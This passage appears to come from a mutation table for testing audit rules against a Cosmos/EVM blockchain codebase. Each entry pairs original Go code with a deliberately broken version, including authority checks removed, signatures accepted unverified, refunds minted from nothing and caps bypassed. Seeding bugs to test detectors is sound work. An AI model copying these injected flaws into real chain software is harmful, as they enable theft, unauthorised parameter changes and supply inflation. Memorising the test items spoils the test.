  "\t// Update the previous block timestamp for the next cycle.\n\tk.SetPrevBlockTS(ctx, currentBlockTS.RoundInt())\n", "",
  "MintAndAllocate#timestamp-updated", "elapsed grows every block: each block mints for the whole time since activation")
m("c13-cap-ignores-blockmint", "C13", "x/coinomics/keeper/inflation.go",
  "\tif blockMint.Ceil().RoundInt().GT(remaining) {", "\tif sdk.ZeroInt().GT(remaining) {",
  "MintAndAllocate#cap-comparison", "cap only triggers once the supply is already above the maximum")
m("c13-mint-ceil", "C13", "x/coinomics/keeper/inflation.go",
  "totalMintOnBlockCoin := sdk.NewCoin(params.MintDenom, blockMint.RoundInt())", "totalMintOnBlockCoin := sdk.NewCoin(params.MintDenom, blockMint.Ceil().RoundInt())",
  "MintAndAllocate#single-rounding", "rounds up instead of to nearest; on the cap branch this can exceed the maximum")
m("c13-leap-no-century-rule", "C13", "x/coinomics/keeper/inflation.go",
  "isLeapYear := (currentYear%4 == 0 && currentYear%100 != 0) || currentYear%400 == 0", "isLeapYear := currentYear%4 == 0",
  "MintAndAllocate#gregorian-leap-divisors", "Julian leap rule")
m("c13-leap-inverted", "C13", "x/coinomics/keeper/inflation.go",
  "\tif isLeapYear {\n\t\tyearInMillis, _ = sdk.NewDecFromStr(\"31622400000\")", "\tif !isLeapYear {\n\t\tyearInMillis, _ = sdk.NewDecFromStr(\"31622400000\")",
  "MintAndAllocate", "366-day divisor in regular years, 365-day divisor in leap years")

m("c13-genesis-calls-mint", "C13", "x/coinomics/genesis.go",
  "\tk.SetMaxSupply(ctx, maxSupply)\n}", "\tk.SetMaxSupply(ctx, maxSupply)\n\tif params.EnableCoinomics {\n\t\t_ = k.MintAndAllocate(ctx)\n\t}\n}",
  "InitGenesis#calls-MintAndAllocate", "genesis import runs the mint routine (records a timestamp, so the first block mints)")

m("c13-year-length-rolling", "C13", "x/coinomics/keeper/inflation.go",
  "\tif isLeapYear {\n\t\tyearInMillis, _ = sdk.NewDecFromStr(\"31622400000\") // 366 days in milliseconds\n\t} else {\n\t\tyearInMillis, _ = sdk.NewDecFromStr(\"31536000000\") // 365 days in milliseconds\n\t}",
  "\t_ = isLeapYear\n\tyearInMillis = sdk.NewDec(ctx.BlockTime().AddDate(1, 0, 0).Sub(ctx.BlockTime()).Milliseconds())",
  "MintAndAllocate#year-length-from-calendar-year", "year length = length of the coming twelve months: switches to 366 days on 1 March of the year before a leap year")

# ---------------- C15 ----------------
m("c15-ucdao-on-liquidvesting-store", "C15", "app/app.go",
  "\t\tappCodec, keys[ucdaotypes.StoreKey], app.AccountKeeper, app.BankKeeper, authAddr,", "\t\tappCodec, keys[liquidvestingtypes.StoreKey], app.AccountKeeper, app.BankKeeper, authAddr,",
  "wiring/x/ucdao", "DAO keeper writes its ledger into the liquid vesting store")
m("c15-refund-minted", "C15", "x/evm/keeper/gas.go",
  "\t\terr := k.bankKeeper.SendCoinsFromModuleToAccount(ctx, authtypes.FeeCollectorName, msg.From().Bytes(), refundedCoins)",
  "\t\terr := k.bankKeeper.MintCoins(ctx, types.ModuleName, refundedCoins)\n\t\tif err == nil {\n\t\t\terr = k.bankKeeper.SendCoinsFromModuleToAccount(ctx, types.ModuleName, msg.From().Bytes(), refundedCoins)\n\t\t}\n\t\t_ = authtypes.FeeCollectorName",
  "RefundGas#MintCoins", "gas refund is minted instead of taken back from the fee collector")
m("c15-invariants-not-registered", "C15", "app/app.go",
  "\tapp.mm.RegisterInvariants(&app.CrisisKeeper)\n", "", "invariants-registered")
m("c15-crisis-not-first", "C15", "app/app.go",
  "\tapp.mm.SetOrderEndBlockers(\n\t\tcrisistypes.ModuleName,\n\t\tgovtypes.ModuleName,\n", "\tapp.mm.SetOrderEndBlockers(\n\t\tgovtypes.ModuleName,\n\t\tcrisistypes.ModuleName,\n",
  "crisis-first-in-endblock")
m("c15-redirect-overwrites-pool", "C15", "x/bank/keeper/keeper.go",
  "\t\tfeePool.CommunityPool = feePool.CommunityPool.Add(coins...)\n", "\t\tfeePool.CommunityPool = coins\n",
  "R4/C14.R2@", "redirected burn replaces the community pool instead of adding to it: pool record runs behind the distribution account")
m("c15-burn-without-collect", "C15", "x/evm/keeper/statedb.go",
  "\t\tif err := k.bankKeeper.SendCoinsFromAccountToModule(ctx, cosmosAddr, types.ModuleName, coins); err != nil {\n\t\t\treturn err\n\t\t}\n\t\tif err := k.bankKeeper.BurnCoins(ctx, types.ModuleName, coins); err != nil {",
  "\t\tif err := k.bankKeeper.BurnCoins(ctx, types.ModuleName, coins); err != nil {",
  "R5/C02.R3@", "write-back burns from the evm module account without first collecting the coins from the account")
m("c15-upgrade-repair-on-bank-store", "C15", "app/app.go",
  "v180.CreateUpgradeHandler(app.mm, app.configurator, *app.EvmKeeper, app.BankKeeper, app.DaoKeeper, keys[ucdaotypes.StoreKey]),",
  "v180.CreateUpgradeHandler(app.mm, app.configurator, *app.EvmKeeper, app.BankKeeper, app.DaoKeeper, keys[banktypes.StoreKey]),",
  "fixUCDAOTotalBalance", "the tabled upgrade repair is handed the bank store key: it rewrites records in the bank store")

m("c15-subbalance-zero-journals", "C15", "x/evm/statedb/state_object.go",
  "func (s *stateObject) SubBalance(amount *big.Int) {\n\tif amount.Sign() == 0 {\n\t\treturn\n\t}\n", "func (s *stateObject) SubBalance(amount *big.Int) {\n",
  "R5/C02.R3@(*x/evm/statedb.stateObject).SubBalance", "zero-value transfers journal a balance change: the sender becomes dirty and Commit writes its cached balance over precompile-made bank changes")

m("c16-static-frame-runs-transactions", "C16", "precompiles/common/precompile.go",
  "\tif readOnly && isTransaction(method.Name) {\n\t\treturn sdk.Context{}, nil, nil, uint64(0), nil, vm.ErrWriteProtection\n\t}\n", "\tif readOnly && !isTransaction(method.Name) {\n\t\t_ = vm.ErrWriteProtection\n\t}\n", "write-protection",
  "a transaction method runs in a read-only frame (the second classification for the module-origin refusal is still there)")
# ---------------- C17 ----------------
m("c17-endblock-also-sets-basefee", "C17", "x/feemarket/keeper/abci.go",
  "\tk.SetBlockGasWanted(ctx, updatedGasWanted)\n", "\tk.SetBlockGasWanted(ctx, updatedGasWanted)\n\tif bf := k.CalculateBaseFee(ctx); bf != nil {\n\t\tk.SetBaseFee(ctx, bf)\n\t}\n",
  "EndBlock#SetBaseFee", "base fee is stepped a second time at the end of every block")
m("c17-updateparams-any-signer", "C17", "x/feemarket/keeper/msg_server.go",
  "\tif k.authority.String() != req.Authority {", "\tif req.Authority == \"\" {",
  "UpdateParams#authority", "anyone can rewrite the base fee through MsgUpdateParams")
m("c17-zero-basefee-not-stored", "C17", "x/feemarket/keeper/abci.go",
  "\tif baseFee == nil {\n\t\treturn\n\t}\n\n\tk.SetBaseFee(ctx, baseFee)", "\tif baseFee == nil || baseFee.Sign() == 0 {\n\t\treturn\n\t}\n\n\tk.SetBaseFee(ctx, baseFee)",
  "BeginBlock#always-stores", "a base fee that reached zero is never written: the stored fee stays one step above")
m("c17-gas-figure-no-multiplier", "C17", "x/feemarket/keeper/abci.go",
  "limitedGasWanted := sdk.NewDec(gasWanted.Int64()).Mul(minGasMultiplier)", "limitedGasWanted := sdk.NewDec(gasWanted.Int64())\n\t_ = minGasMultiplier",
  "EndBlock#gas-figure", "the full declared gas drives the base fee")
m("c17-empty-block-keeps-old-figure", "C17", "x/feemarket/keeper/abci.go",
  "\tif !gasUsed.IsInt64() {", "\tif !gasUsed.IsInt64() || gasUsed.IsZero() {",
  "EndBlock#always-stores", "empty blocks keep the previous block's gas figure: the base fee keeps rising/falling as if the last busy block repeated")
m("c17-increase-no-min-one", "C17", "x/feemarket/keeper/eip1559.go",
  "\t\tbaseFeeDelta := math.BigMax(\n\t\t\tx.Div(y, baseFeeChangeDenominator),\n\t\t\tcommon.Big1,\n\t\t)\n", "\t\tbaseFeeDelta := x.Div(y, baseFeeChangeDenominator)\n\t\t_ = common.Big1\n",
  "increase-branch", "a small base fee never rises (delta rounds to zero)")
m("c17-decrease-no-floor", "C17", "x/feemarket/keeper/eip1559.go",
  "\treturn math.BigMax(x.Sub(parentBaseFee, baseFeeDelta), minGasPrice)", "\t_ = minGasPrice\n\treturn x.Sub(parentBaseFee, baseFeeDelta)",
  "CalculateBaseFee#", "base fee can fall below the minimum gas price")
m("c17-branches-swapped", "C17", "x/feemarket/keeper/eip1559.go",
  "\tif parentGasUsed > parentGasTarget {", "\tif parentGasUsed < parentGasTarget {",
  "CalculateBaseFee#", "increase branch taken below target (and the uint64 subtraction wraps): fee rises when blocks are empty, falls when full")

m("c17-zero-height-keeps-enable-height", "C17", "app/export.go",
  "\tif err := app.FeeMarketKeeper.SetParams(ctx, fmParams); err != nil {\n\t\treturn err\n\t}\n", "\t_ = fmParams\n", "enable-height-rebased",
  "the zero-height export computes the rebased EnableHeight but does not write it back")
m("c17-eip712-route-without-gas-wanted", "C17", "app/ante/handler_options.go",
  "\t\tibcante.NewRedundantRelayDecorator(options.IBCKeeper),\n\t\tevmante.NewGasWantedDecorator(options.EvmKeeper, options.FeeMarketKeeper),\n\t)\n}\n\n// newLegacy", "\t\tibcante.NewRedundantRelayDecorator(options.IBCKeeper),\n\t)\n}\n\n// newLegacy", "records-declared-gas",
  "the Cosmos route no longer records declared gas")
# ---------------- C18 ----------------
m("c18-dynfee-feecap-from-tipcap", "C18", "x/evm/types/dynamic_fee_tx.go",
  "gasFeeCapInt, err := types.SafeNewIntFromBigInt(tx.GasFeeCap())", "gasFeeCapInt, err := types.SafeNewIntFromBigInt(tx.GasTipCap())",
  "NewDynamicFeeTx#from-ethereum/GasFeeCap", "wrapping a dynamic-fee tx records the tip cap as fee cap (hash changes)")
m("c18-acl-sig-swapped", "C18", "x/evm/types/access_list_tx.go",
  "txData.SetSignatureValues(tx.ChainId(), v, r, s)", "txData.SetSignatureValues(tx.ChainId(), v, s, r)",
  "newAccessListTx#from-ethereum/", "R and S exchanged when wrapping an access-list tx")
m("c18-legacy-rawsig-order", "C18", "x/evm/types/legacy_tx.go",
  "return rawSignatureValues(tx.V, tx.R, tx.S)", "return rawSignatureValues(tx.V, tx.S, tx.R)",
  "LegacyTx#getter/GetRawSignatureValues", "unwrapping a legacy tx exchanges R and S: different sender")
m("c18-acl-drops-accesslist", "C18", "x/evm/types/access_list_tx.go",
  "\t\tAccessList: tx.GetAccessList(),\n", "", "AccessListTx).AsEthereumData#to-ethereum/AccessList", "unwrapped access-list tx has an empty access list")
m("c18-dynfee-copy-tipcap", "C18", "x/evm/types/dynamic_fee_tx.go",
  "\t\tGasTipCap: tx.GasTipCap,\n\t\tGasFeeCap: tx.GasFeeCap,\n", "\t\tGasTipCap: tx.GasFeeCap,\n\t\tGasFeeCap: tx.GasFeeCap,\n",
  "DynamicFeeTx).Copy#GasTipCap")
m("c18-legacy-txtype", "C18", "x/evm/types/legacy_tx.go",
  "\treturn ethtypes.LegacyTxType", "\treturn ethtypes.AccessListTxType", "LegacyTx#TxType")
m("c18-decode-acl-as-legacy", "C18", "x/evm/types/tx_data.go",
  "\tcase ethtypes.AccessListTxType:\n\t\ttxData, err = newAccessListTx(tx)", "\tcase ethtypes.AccessListTxType:\n\t\ttxData, err = NewLegacyTx(tx)",
  "NewTxDataFromTx#AccessListTxType", "access-list txs are wrapped as legacy txs: chain id and access list are lost")
m("c18-validate-empty-hash-ok", "C18", "x/evm/types/msg.go",
  "\tif msg.Hash != txHash {", "\tif msg.Hash != \"\" && msg.Hash != txHash {",
  "ValidateBasic#hash-matches", "a message without recorded hash passes validation")
m("c18-dynfee-fee-uses-tipcap", "C18", "x/evm/types/dynamic_fee_tx.go",
  "\treturn fee(tx.GetGasFeeCap(), tx.GasLimit)", "\treturn fee(tx.GetGasTipCap(), tx.GasLimit)",
  "DynamicFeeTx#Fee", "Fee/Cost of a dynamic-fee message computed from the tip cap")
m("c18-dynfee-effprice-args-swapped", "C18", "x/evm/types/dynamic_fee_tx.go",
  "return EffectiveGasPrice(baseFee, tx.GasFeeCap.BigInt(), tx.GasTipCap.BigInt())", "return EffectiveGasPrice(baseFee, tx.GasTipCap.BigInt(), tx.GasFeeCap.BigInt())",
  "EffectiveGasPrice#single-definition")
m("c18-accesslist-first-address", "C18", "x/evm/types/access_list.go",
  "\t\t\tAddress:     common.HexToAddress(tuple.Address),", "\t\t\tAddress:     common.HexToAddress(al[0].Address),",
  "ToEthAccessList#tuple-address", "every unwrapped tuple carries the first tuple's address")

m("c18-tipcap-pointer-only", "C18", "x/evm/types/dynamic_fee_tx.go",
  "\tif tx.GasTipCap == nil || tx.GasTipCap.IsNil() {", "\tif tx.GasTipCap == nil {", "GasTipCap.IsNegative",
  "only the pointer of the tip cap is tested before IsNegative")
m("c18-indexer-trusts-recorded-hash", "C18", "indexer/kv_indexer.go",
  "\t\t\ttxHash := ethTx.Hash()\n", "\t\t\ttxHash := common.HexToHash(ethMsg.Hash)\n", "reads-recorded-hash",
  "the indexer files the message under the hash recorded in it")
m("c18-intrinsic-gas-by-type", "C18", "x/evm/keeper/fees.go",
  "\tif txData.GetAccessList() != nil {", "\tif txData.TxType() == ethtypes.AccessListTxType {", "takes-the-transaction's-access-list",
  "only access-list transactions pay for their access list at admission")
# ---------------- C19 ----------------
m("c19-feemarket-blockgas-not-imported", "C19", "x/feemarket/genesis.go",
  "\tk.SetBlockGasWanted(ctx, data.BlockGas)\n", "", "x/feemarket#GenesisState.BlockGas", "exported block gas figure is dropped on import: the first base fee after import differs")
m("c19-erc20-export-no-pairs", "C19", "x/erc20/genesis.go",
  "\t\tTokenPairs: k.GetTokenPairs(ctx),\n", "", "x/erc20#GenesisState.TokenPairs", "token pairs are not exported")
m("c19-liquidvesting-counter-conditional", "C19", "x/liquidvesting/genesis.go",
  "\tk.SetDenomCounter(ctx, data.DenomCounter)\n", "\tif len(data.Denoms) > 0 {\n\t\tk.SetDenomCounter(ctx, data.DenomCounter)\n\t}\n",
  "x/liquidvesting#import-unconditional/SetDenomCounter", "counter is lost when every liquid denom has been redeemed: denom names get reused")
m("c19-erc20-import-no-pair-record", "C19", "x/erc20/genesis.go",
  "\t\tk.SetTokenPair(ctx, pair)\n", "", "x/erc20#prefix/KeyPrefixTokenPair", "import rebuilds only the two indexes, not the pair records")
m("c19-evm-export-stops-after-first", "C19", "x/evm/genesis.go",
  "\t\tethGenAccounts = append(ethGenAccounts, genAccount)\n\t\treturn false", "\t\tethGenAccounts = append(ethGenAccounts, genAccount)\n\t\treturn true",
  "x/evm.ExportGenesis", "account iteration stops after the first EthAccount: all other contracts lose code and storage")
m("c19-liquidvesting-counter-from-len", "C19", "x/liquidvesting/genesis.go",
  "\t\tDenomCounter: k.GetDenomCounter(ctx),\n", "\t\tDenomCounter: uint64(len(k.GetAllDenoms(ctx))),\n",
  "x/liquidvesting", "exported counter = number of live denoms, lower than the stored counter after redemptions")
m("c19-evm-import-storage-needs-code", "C19", "x/evm/genesis.go",
  "\t\tfor _, storage := range account.Storage {\n", "\t\tif len(code) == 0 {\n\t\t\tcontinue\n\t\t}\n\t\tfor _, storage := range account.Storage {\n",
  "x/evm", "storage of code-less accounts is exported but not restored")

m("c19-hand-jail-keeps-power-index", "C19", "app/export.go",
  "\t\t\tapp.StakingKeeper.DeleteValidatorByPowerIndex(ctx, validator)\n\t\t\tvalidator.Jailed = true", "\t\t\tvalidator.Jailed = true", "leaves-the-power-index",
  "the zero-height export jails by hand without removing the record from the power index")
m("c19-export-skips-disabled-pairs", "C19", "x/erc20/keeper/token_pairs.go",
  "\tk.IterateTokenPairs(ctx, func(tokenPair types.TokenPair) (stop bool) {\n\t\ttokenPairs = append(tokenPairs, tokenPair)", "\tk.IterateTokenPairs(ctx, func(tokenPair types.TokenPair) (stop bool) {\n\t\tif !tokenPair.Enabled {\n\t\t\treturn false\n\t\t}\n\t\ttokenPairs = append(tokenPairs, tokenPair)", "lists-every-element",
  "the list the erc20 export is built from leaves out pairs whose conversion is switched off")
# ---------------- C20 ----------------
m("c20-indexer-resumes-at-last-indexed", "C20", "server/indexer_service.go",
  "\tif earliest := status.SyncInfo.EarliestBlockHeight; lastBlock < earliest-1 {\n\t\tlastBlock = earliest - 1\n\t}\n", "", "start-clamped-to-the-earliest-block",
  "the indexer service resumes at the last block that held an Ethereum transaction, whatever the block store still has")
m("c20-no-memstore-rebuild", "C20", "app/app.go",
  "\t\tif app.LastBlockHeight() > 0 {\n\t\t\tapp.CapabilityKeeper.InitMemStore(app.BaseApp.NewUncachedContext(true, tmproto.Header{}))\n\t\t}\n",
  "\t\t_ = tmproto.Header{}\n", "capabilities-rebuilt-after-load",
  "the capability memory store is left to the first begin blocker")
m("c20-memstore-rebuild-behind-a-flag", "C20", "app/app.go",
  "\t\tif app.LastBlockHeight() > 0 {\n\t\t\tapp.CapabilityKeeper.InitMemStore(",
  "\t\tif app.LastBlockHeight() > 0 && invCheckPeriod > 0 {\n\t\t\tapp.CapabilityKeeper.InitMemStore(", "capabilities-rebuilt-after-load",
  "the rebuild depends on a node-local option")
m("c20-registercoin-registers-extensions", "C20", "x/erc20/keeper/proposals.go",
  "\tk.SetERC20Map(ctx, common.HexToAddress(pair.Erc20Address), pair.GetID())\n\n\treturn &pair, nil",
  "\tk.SetERC20Map(ctx, common.HexToAddress(pair.Erc20Address), pair.GetID())\n\tif err := k.RegisterERC20Extensions(ctx); err != nil {\n\t\treturn nil, err\n\t}\n\n\treturn &pair, nil",
  "RegisterERC20Extensions#unreachable", "registering a coin extends the in-memory precompile registry at run time; a restarted node rebuilds only the static one")
m("c20-hooks-circuit-breaker", "C20", "x/evm/keeper/keeper.go",
  "\treturn k.hooks.PostTxProcessing(ctx, msg, receipt)\n", "\terr = k.hooks.PostTxProcessing(ctx, msg, receipt)\n\tif err != nil {\n\t\tk.hooks = nil\n\t}\n\treturn err\n",
  "PostTxProcessing#writes-", "the first failing hook switches the hooks off for the rest of the process lifetime")
m("c20-antehandler-only-when-loading", "C20", "app/app.go",
  "\tapp.setAnteHandler(encodingConfig.TxConfig, maxGasWanted)\n", "\tif loadLatest {\n\t\tapp.setAnteHandler(encodingConfig.TxConfig, maxGasWanted)\n\t}\n",
  "app.NewHaqq#setAnteHandler", "an app constructed without loadLatest (export, rollback tools, tests) runs without ante handler")
m("c20-loadlatest-conditional", "C20", "app/app.go",
  "\tif loadLatest {\n\t\tif err := app.LoadLatestVersion(); err != nil {", "\tif loadLatest && invCheckPeriod == 0 {\n\t\tif err := app.LoadLatestVersion(); err != nil {",
  "app.NewHaqq#LoadLatestVersion", "with invariant checks enabled the node starts from an empty state")
m("c20-liquidvesting-key-not-created", "C20", "app/app.go",
  "\t\tcoinomicstypes.StoreKey,\n\t\tliquidvestingtypes.StoreKey,\n\t\tucdaotypes.StoreKey,\n\t)", "\t\tcoinomicstypes.StoreKey,\n\t\tucdaotypes.StoreKey,\n\t)",
  "store-key-created/liquidvesting", "liquid vesting keeper is wired with a nil store key: its store is never mounted")
m("c20-global-last-block-gas", "C20", "x/feemarket/keeper/abci.go",
  "\tk.SetBlockGasWanted(ctx, updatedGasWanted)\n", "\tif updatedGasWanted == 0 {\n\t\tupdatedGasWanted = lastBlockGas\n\t}\n\tlastBlockGas = updatedGasWanted\n\tk.SetBlockGasWanted(ctx, updatedGasWanted)\n",
  "EndBlock", "empty blocks reuse the last figure kept in a package-level variable: zero after a restart, non-zero on a node that kept running",
  extra=[("// BeginBlock updates base fee\n", "var lastBlockGas uint64\n\n// BeginBlock updates base fee\n")])

# ---------------- added with the rules of session 3 ----------------
m("c17-machine-word-delta", "C17", "x/feemarket/keeper/eip1559.go",
  "\t\tgasUsedDelta := new(big.Int).SetUint64(parentGasUsed - parentGasTarget)\n\t\tx := new(big.Int).Mul(parentBaseFee, gasUsedDelta)",
  "\t\tx := new(big.Int).SetUint64(parentBaseFee.Uint64() * (parentGasUsed - parentGasTarget))",
  "arbitrary-precision", "base fee × gas delta on machine words: wraps for fees the chain can reach")
m("c09-merge-folds-into-last", "C09", "x/vesting/types/schedule.go",
  "\temit := func(nextTime int64, amount sdk.Coins) {\n\t\tperiod := sdkvesting.Period{\n\t\t\tLength: nextTime - endTime,",
  "\temit := func(nextTime int64, amount sdk.Coins) {\n\t\tif n := len(periods); n > 0 && amount.Len() == 1 {\n\t\t\tperiods[n-1].Amount = periods[n-1].Amount.Add(amount...)\n\t\t\treturn\n\t\t}\n\t\tperiod := sdkvesting.Period{\n\t\t\tLength: nextTime - endTime,",
  "appends-on-every-path", "single-denomination events are folded into the previously emitted period whatever its time")
m("c12-total-memo", "C12", "x/ucdao/keeper/total_balance.go",
  "func (k BaseKeeper) setTotalBalanceOfCoin(ctx sdk.Context, coin sdk.Coin) {\n",
  "var totalsMemo = map[string]sdk.Coin{}\n\nfunc (k BaseKeeper) setTotalBalanceOfCoin(ctx sdk.Context, coin sdk.Coin) {\n\ttotalsMemo[coin.Denom] = coin\n",
  "RM", "decoded total memoised in a package-level map: survives a reverted message")
m("c02w-query-claims-rewards", "C02", "precompiles/distribution/query.go",
  "\tres, err := querier.DelegationTotalRewards(queryCtx, req)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n",
  "\tres, err := querier.DelegationTotalRewards(queryCtx, req)\n\tif err != nil {\n\t\treturn nil, err\n\t}\n\tif len(res.Total) > 0 {\n\t\t_ = anteutils.ClaimSufficientStakingRewards(ctx, p.stakingKeeper, p.distributionKeeper, sdk.MustAccAddressFromBech32(req.DelegatorAddress), sdk.NewCoin(\"aISLM\", sdk.NewInt(1)))\n\t}\n",
  "W1@", "a view function auto-claims rewards through a helper outside the keeper packages: invisible to the name-based effect filter, found by the whole-program rule",
  extra=[("import (\n", "import (\n\tanteutils \"github.com/haqq-network/haqq/app/ante/utils\"\n")])
M[-1]["tier"] = "whole"

# ---------------- rules added from the wave-2/3 seeds ----------------
m("c01-sort-by-prefix", "C01", "x/evm/statedb/journal.go",
  "return bytes.Compare(keys[i].Bytes(), keys[j].Bytes()) < 0", "return bytes.Compare(keys[i][:8], keys[j][:8]) < 0",
  "sortedDirties", "dirty accounts ordered by an address prefix: equal prefixes stay in map order")
m("c03-eip712-any-signers", "C03", "app/ante/cosmos/eip712.go",
  "\tif len(sigs) != 1 {", "\tif len(sigs) == 0 {", "single-signature", "EIP-712 route accepts several signers, verifies only the first")
m("c03-convert-fresh-baseacc", "C03", "x/vesting/keeper/schedule.go",
  "\t\tbaseAcc := ethAcc.GetBaseAccount()\n", "\t\tbaseAcc := authtypes.NewBaseAccountWithAddress(funded)\n\t\t_ = baseAcc.SetAccountNumber(ethAcc.GetAccountNumber())\n",
  "fresh-base-account", "conversion into a vesting account restarts the sequence at 0")
m("c04-no-limit-precheck", "C04", "precompiles/authorization/types.go",
  "\tif stakeAuthz.MaxTokens != nil && amount.Amount.GT(stakeAuthz.MaxTokens.Amount) {\n\t\treturn nil, nil, fmt.Errorf(ErrExceededAllowance, amount.Amount, stakeAuthz.MaxTokens.Amount)\n\t}\n",
  "\t_ = amount\n", "amount-within-limit", "the allowance is only enforced by Accept after the effect")
m("c05-suicide-revert-const", "C05", "x/evm/statedb/journal.go",
  "\t\tobj.suicided = ch.prev\n", "\t\tobj.suicided = false\n\t\t_ = ch.prev\n", "restores-recorded-value", "reverting a second SELFDESTRUCT clears the mark of the first")
m("c06-reject-stops-at-first", "C06", "app/ante/cosmos/reject_msgs.go",
  "\t\tif _, ok := msg.(*evmtypes.MsgEthereumTx); ok {\n", "\t\tif _, isEth := msg.(*evmtypes.MsgEthereumTx); !isEth {\n\t\t\tbreak\n\t\t}\n\t\tif _, ok := msg.(*evmtypes.MsgEthereumTx); ok {\n",
  "every-message", "the reject scan stops at the first ordinary message")
m("c07-floor-truncated", "C07", "app/ante/cosmos/min_price.go",
  "fee := gp.Amount.Mul(gasLimit).Ceil().RoundInt()", "fee := gp.Amount.TruncateDec().Mul(gasLimit).Ceil().RoundInt()",
  "floor-not-rounded-down", "fractional minimum gas price truncated before the floor is computed")
m("c16-setwithdraw-fastpath", "C16", "precompiles/distribution/tx.go",
  "\tmsgSrv := distributionkeeper.NewMsgServerImpl(p.distributionKeeper)\n\tif _, err = msgSrv.SetWithdrawAddress(sdk.WrapSDKContext(ctx), msg); err != nil {\n\t\treturn nil, err\n\t}\n",
  "\tif msg.WithdrawAddress != msg.DelegatorAddress {\n\t\tmsgSrv := distributionkeeper.NewMsgServerImpl(p.distributionKeeper)\n\t\tif _, err = msgSrv.SetWithdrawAddress(sdk.WrapSDKContext(ctx), msg); err != nil {\n\t\t\treturn nil, err\n\t\t}\n\t}\n",
  "native-call-on-every-success", "setWithdrawAddress(self, self) reports success without the native message")
m("c16-query-on-live-ctx", "C16", "precompiles/distribution/query.go",
  "\tres, err := querier.DelegationRewards(queryCtx, req)", "\t_ = queryCtx\n\tres, err := querier.DelegationRewards(ctx, req)",
  "R6@", "the view method hands the transaction's context to the writing SDK query again")
m("c16-delegation-recomputed", "C16", "precompiles/staking/query.go",
  "\tres, err := queryServer.Delegation(sdk.WrapSDKContext(ctx), req)\n", "\tres, err := (*stakingtypes.QueryDelegationResponse)(nil), error(nil)\n\t_ = queryServer\n\tif d, found := p.stakingKeeper.GetDelegation(ctx, sdk.MustAccAddressFromBech32(req.DelegatorAddr), sdk.ValAddress(sdk.MustAccAddressFromBech32(req.DelegatorAddr))); found {\n\t\tres = &stakingtypes.QueryDelegationResponse{DelegationResponse: &stakingtypes.DelegationResponse{Delegation: d, Balance: sdk.NewCoin(p.stakingKeeper.BondDenom(ctx), d.Shares.TruncateInt())}}\n\t}\n",
  "query-dispatch", "delegation query recomputed by the precompile instead of asking the native query server")
m("c18-getsender-cached", "C18", "x/evm/types/msg.go",
  "\tsigner := ethtypes.LatestSignerForChainID(chainID)\n\tfrom, err := signer.Sender(msg.AsTransaction())",
  "\tif msg.From != \"\" && common.IsHexAddress(msg.From) {\n\t\treturn common.HexToAddress(msg.From), nil\n\t}\n\tsigner := ethtypes.LatestSignerForChainID(chainID)\n\tfrom, err := signer.Sender(msg.AsTransaction())",
  "sender-recovered", "GetSender trusts the From field of the envelope")
m("c19-import-trims", "C19", "x/liquidvesting/genesis.go",
  "\tfor _, denom := range data.Denoms {\n\t\tk.SetDenom(ctx, denom)", "\tfor _, denom := range data.Denoms {\n\t\tif len(denom.LockupPeriods) > 0 && denom.LockupPeriods[0].Amount.IsZero() {\n\t\t\tdenom.LockupPeriods = denom.LockupPeriods[1:]\n\t\t}\n\t\tk.SetDenom(ctx, denom)",
  "overwrites-Denom.LockupPeriods", "import drops an empty leading tranche: later tranches move earlier")
m("c20-ethcall-keeper-chainid", "C20", "x/evm/keeper/grpc_query.go",
  "\tchainID, err := getChainID(ctx, req.ChainId)\n\tif err != nil {\n\t\treturn nil, status.Error(codes.InvalidArgument, err.Error())\n\t}\n\tcfg, err := k.EVMConfig(ctx, GetProposerAddress(ctx, req.ProposerAddress), chainID)\n\tif err != nil {\n\t\treturn nil, status.Error(codes.Internal, err.Error())",
  "\tchainID := k.ChainID()\n\tif req.ChainId != 0 {\n\t\tchainID = big.NewInt(req.ChainId)\n\t}\n\tcfg, err := k.EVMConfig(ctx, GetProposerAddress(ctx, req.ProposerAddress), chainID)\n\tif err != nil {\n\t\treturn nil, status.Error(codes.Internal, err.Error())",
  "EthCall#EVMConfig-chain-id", "eth_call falls back to the keeper's in-memory chain id (nil right after a restart)")

# ---------------- rules added from the wave-3 seeds ----------------
m("c02-suicide-balance-not-restored", "C02", "x/evm/statedb/journal.go",
  "\t\tobj.suicided = ch.prev\n\t\tobj.setBalance(ch.prevbalance)\n", "\t\tobj.suicided = ch.prev\n\t\t_ = ch.prevbalance\n",
  "entry-covers-writes", "a reverted SELFDESTRUCT leaves the contract's cached balance at zero: Commit burns its coins")
m("c02-create-drops-balance", "C02", "x/evm/statedb/statedb.go",
  "\tif prev != nil {\n\t\tnewObj.setBalance(prev.account.Balance)\n\t}", "\tif prev != nil && prev.account.Nonce > 0 {\n\t\tnewObj.setBalance(prev.account.Balance)\n\t}",
  "carries-balance", "CREATE onto a funded address that never sent a transaction starts from zero")
m("c04-cancel-uses-delegate-grant", "C04", "precompiles/staking/tx.go",
  "stakeAuthz, expiration, err = authorization.CheckAuthzAndAllowanceForGranter(ctx, p.AuthzKeeper, contract.CallerAddress, delegatorHexAddr, &msg.Amount, CancelUnbondingDelegationMsg)",
  "stakeAuthz, expiration, err = authorization.CheckAuthzAndAllowanceForGranter(ctx, p.AuthzKeeper, contract.CallerAddress, delegatorHexAddr, &msg.Amount, DelegateMsg)",
  "type-url", "cancel-unbonding authorised by a delegate approval")
m("c04-update-drops-expiration", "C04", "precompiles/ics20/approve_common.go",
  "err = authzKeeper.SaveGrant(ctx, grantee.Bytes(), granter.Bytes(), resp.Updated, expiration)", "err = authzKeeper.SaveGrant(ctx, grantee.Bytes(), granter.Bytes(), resp.Updated, nil)\n\t\t_ = expiration",
  "SaveGrant-expiration", "a partially used ICS-20 approval never expires")
m("c08-haslocked-net-of-delegations", "C08", "x/vesting/types/clawback_vesting_account.go",
  "\treturn !va.GetLockedUpCoins(blockTime).IsZero()", "\treturn !va.LockedCoins(blockTime).IsZero()",
  "HasLockedCoins#definition", "an account whose locked coins are all delegated converts into a plain account")
m("c11-whole-amount-fastpath", "C11", "x/liquidvesting/types/schedule.go",
  "\tcopy(decreasedPeriods, minuendPeriods)\n", "\tif subtrahendAmount.Equal(minuendTotalAmount) {\n\t\tfor i, p := range minuendPeriods {\n\t\t\tdecreasedPeriods[i] = sdkvesting.Period{Length: p.Length, Amount: sdk.NewCoins()}\n\t\t\tdiffPeriods = append(diffPeriods, sdkvesting.Period{Length: p.Length, Amount: p.Amount})\n\t\t}\n\t\treturn decreasedPeriods, diffPeriods, nil\n\t}\n\tcopy(decreasedPeriods, minuendPeriods)\n",
